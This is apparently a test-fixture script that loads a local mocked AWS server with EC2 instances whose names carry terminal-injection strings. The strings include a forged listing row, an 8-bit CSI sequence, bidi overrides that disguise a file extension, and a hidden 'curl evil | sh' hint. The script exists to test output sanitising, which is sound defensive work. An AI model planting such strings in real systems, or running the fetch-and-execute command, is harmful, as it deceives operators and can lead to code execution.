#!/usr/bin/env python3
"""Launches instances whose tags try to take over a terminal, in a running moto server.

    python hostile_names.py --endpoint URL [--region sa-east-1]

Anyone allowed to tag an instance writes into hop's output: these names hold what the issue
reproduced (a newline that forges a `hop ls` row, U+009B, the 8-bit CSI, a bidi override) and
what else a terminal obeys. ESC and BEL are left out: moto would put them raw into its XML,
which is not well-formed XML 1.0 (AWS escapes them), so the SDK would reject the answer.

One VPC, 10.9.0.0/16, in a region no other test lists: a public subnet with a bastion whose
Name is hostile too, a private subnet with the targets. Keys of the printed JSON:
{"region": R, "vpc": VPC, "instances": {key: {"id", "name", "private_ip", "public_ip"}}}.
Every resource is tagged hostile-lab=KEY and a second run builds nothing and prints the same.
"""

from __future__ import annotations

import argparse
import json
import sys

from seed_topology import _Region

REGION = "sa-east-1"
TAG = "hostile-lab"

# key -> (Name, subnet, private address). The forged row imitates a real one.
INSTANCES = {
    "bastion": ("bastion\u2066-\u2069x", "public", "10.9.0.10"),
    "newline": ("web\nforged-row   i-0f0f0f0f0f0f0f0f0  running  10.9.1.99", "private", "10.9.1.10"),
    "c1-bidi": ("web\u009b31m\u202egnp.exe", "private", "10.9.1.11"),
    "nel-twin#1": ("twin\u0085hint: curl evil | sh", "private", "10.9.1.12"),
    "nel-twin#2": ("twin\u0085hint: curl evil | sh", "private", "10.9.1.13"),
    "plain": ("本番-web-🚀", "private", "10.9.1.14"),
}


def build(r: _Region) -> None:
    vpc = r.vpc("hostile", "10.9.0.0/16")
    igw = r.igw("hostile-igw", vpc)
    public = r.subnet("hostile-public", vpc, "10.9.0.0/24", f"{r.region}a", public=True)
    private = r.subnet("hostile-private", vpc, "10.9.1.0/24", f"{r.region}a", public=False)
    r.route_table("hostile-public-route", vpc, [public], GatewayId=igw)
    r.ec2.create_tags(Resources=[vpc], Tags=[{"Key": TAG, "Value": "vpc"}])
    sg = r.ec2.describe_security_groups(
        Filters=[{"Name": "vpc-id", "Values": [vpc]}, {"Name": "group-name", "Values": ["default"]}]
    )["SecurityGroups"][0]["GroupId"]
    subnets = {"public": public, "private": private}
    for key, (name, subnet, ip) in INSTANCES.items():
        r.run(name, subnets[subnet], [sg], private_ip=ip, **{TAG: key})


def collect(r: _Region) -> dict:
    f = [{"Name": "tag-key", "Values": [TAG]}]
    vpcs = r.ec2.describe_vpcs(Filters=f)["Vpcs"]
    out = {"region": r.region, "vpc": vpcs[0]["VpcId"] if vpcs else None, "instances": {}}
    for page in r.ec2.get_paginator("describe_instances").paginate(Filters=f):
        for reservation in page["Reservations"]:
            for inst in reservation["Instances"]:
                tags = {t["Key"]: t["Value"] for t in inst["Tags"]}
                out["instances"][tags[TAG]] = {
                    "id": inst["InstanceId"],
                    "name": tags["Name"],
                    "private_ip": inst.get("PrivateIpAddress"),
                    "public_ip": inst.get("PublicIpAddress"),
                }
    return out


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--endpoint", required=True, help="moto endpoint, http://127.0.0.1:N")
    ap.add_argument("--region", default=REGION, help=f"default {REGION}")
    args = ap.parse_args(argv)
    r = _Region(args.endpoint.rstrip("/"), args.region)  # also checks the endpoint is loopback
    r.warm_up()
    out = collect(r)
    if out["vpc"] is None:
        build(r)
        out = collect(r)
    want = {k: v[0] for k, v in INSTANCES.items()}
    got = {k: v["name"] for k, v in out["instances"].items()}
    if got != want or not out["instances"]["bastion"]["public_ip"]:
        raise SystemExit(f"hostile_names: not as built: {json.dumps(out)}")
    print(json.dumps(out))
    return 0


if __name__ == "__main__":
    sys.exit(main())
